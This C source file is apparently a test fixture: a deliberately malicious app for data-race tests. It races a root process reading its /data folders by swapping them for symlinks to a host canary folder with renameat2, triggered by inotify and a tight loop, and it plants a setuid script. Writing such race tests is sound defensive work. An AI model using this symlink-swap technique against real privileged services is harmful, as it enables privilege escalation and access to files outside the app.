// A malicious app for the data-race tests. It builds a tree in /data, then swaps its
// folders for symlinks to a HOST folder (renameat2 RENAME_EXCHANGE): whenever inotify shows root
// reading them, and in a tight loop besides. Usage: racer <absolute host path of the canary folder>
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <sys/inotify.h>
#include <sys/stat.h>
#include <unistd.h>

#define DIRS 8
#define FILES 4
#define WATCHED (IN_OPEN | IN_ACCESS | IN_CLOSE_NOWRITE)

static void put(const char *path, const char *text, mode_t mode) {
  int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0644);
  if (fd < 0) return;
  if (write(fd, text, strlen(text)) < 0) perror(path);
  close(fd);
  chmod(path, mode);  /* after the write: writing clears setuid */
}

static void swap(const char *a, const char *b) {
  renameat2(AT_FDCWD, a, AT_FDCWD, b, RENAME_EXCHANGE);
}

int main(int argc, char **argv) {
  if (argc < 2) { fprintf(stderr, "usage: racer CANARY\n"); return 2; }
  char sub[4096], name[64], link[64], path[128];
  snprintf(sub, sizeof sub, "%s/sub", argv[1]);
  if (chdir("/data") != 0) { perror("/data"); return 3; }
  mkdir("tree", 0755);
  symlink(argv[1], "tree.lnk");     /* swapped with the tree itself */
  symlink(argv[1], "canary-link");  /* a link to the host folder at the top, left in place */
  int in = inotify_init1(IN_NONBLOCK);
  int wd[DIRS];
  for (int i = 0; i < DIRS; i++) {
    snprintf(name, sizeof name, "tree/d%d", i);
    mkdir(name, 0755);
    snprintf(path, sizeof path, "tree/d%d/s", i);
    mkdir(path, 0755);
    for (int f = 0; f < FILES; f++) {
      snprintf(path, sizeof path, "tree/d%d/f%d", i, f);
      put(path, "app data\n", 0644);
    }
    snprintf(path, sizeof path, "tree/d%d/s/inner", i);
    put(path, "inner\n", 0600);
    snprintf(link, sizeof link, "tree/d%d.lnk", i);
    symlink(i % 2 ? sub : argv[1], link);
    wd[i] = inotify_add_watch(in, name, WATCHED);
  }
  /* The app's own setuid/setgid file: root's copy must drop the bits. */
  put("tree/d0/suid", "#!/bin/sh\nid\n", 06755);
  int top = inotify_add_watch(in, "tree", WATCHED);
  put("ready", "ready\n", 0644);
  char buf[8192] __attribute__((aligned(__alignof__(struct inotify_event))));
  for (unsigned long n = 0;; n++) {
    ssize_t len = read(in, buf, sizeof buf);
    for (char *p = buf; len > 0 && p < buf + len;) {
      const struct inotify_event *ev = (const struct inotify_event *)p;
      if (ev->wd == top) swap("tree", "tree.lnk");
      for (int i = 0; i < DIRS; i++) {
        if (ev->wd != wd[i]) continue;
        snprintf(name, sizeof name, "tree/d%d", i);
        snprintf(link, sizeof link, "tree/d%d.lnk", i);
        swap(name, link);
      }
      p += sizeof *ev + ev->len;
    }
    int i = (int)(n % (DIRS + 1));
    if (i == DIRS) { swap("tree", "tree.lnk"); continue; }
    snprintf(name, sizeof name, "tree/d%d", i);
    snprintf(link, sizeof link, "tree/d%d.lnk", i);
    swap(name, link);
  }
}
